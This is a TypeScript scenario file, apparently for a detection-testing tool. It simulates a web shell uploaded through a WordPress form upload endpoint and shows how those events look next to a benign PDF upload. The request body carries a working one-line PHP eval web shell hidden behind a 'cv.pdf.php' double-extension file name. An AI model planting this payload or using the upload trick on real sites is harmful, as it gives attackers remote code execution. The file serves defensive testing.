import type { Story } from '../story.ts';
import { TOOLS } from '../scene.ts';

export const webShell: Story = {
  name: 'web-shell', title: 'a web shell uploaded through a form and called',
  items: ['injection.web-shell'], site: 'klinik-see',
  attack(s) {
    const intruder = s.stranger(0, TOOLS.script);
    return [
      s.request(s.at('6:12'), intruder, 'POST /wp-admin/admin-ajax.php?action=form_upload', { bytes: 88, body: 'name=cv.pdf.php&content=<?php @eval($_POST["c"]); ?>' }),
      s.act(s.at('6:12'), 'file/file-uploaded', { ip: intruder.ip, agent: intruder.agent }, {
        'file.path': 'wp-content/uploads/forms/cv.pdf.php', 'file.name': 'cv.pdf.php', 'file.extension': 'php', 'file.mime_type': 'text/x-php', 'file.size': 640,
      }),
      s.every(s.at('6:13'), '25s', 9, (at) => s.request(at, intruder, 'POST /wp-content/uploads/forms/cv.pdf.php', { bytes: 3_100 })),
    ];
  },
  lookAlike: {
    title: 'an applicant uploads a PDF and the office opens it',
    events: (s) => [
      s.request(s.at('12:30'), s.visitor(), 'POST /wp-admin/admin-ajax.php?action=form_upload', { bytes: 92 }),
      s.act(s.at('12:30'), 'file/file-uploaded', s.visitor(), {
        'file.path': 'wp-content/uploads/forms/4f2a/cv-php-developer.pdf', 'file.name': 'cv-php-developer.pdf', 'file.extension': 'pdf', 'file.mime_type': 'application/pdf',
      }),
      s.request(s.at('13:00'), s.staff('support'), 'GET /wp-admin/admin.php?page=forms&entry=311', { bytes: 52_000 }),
    ],
  },
};
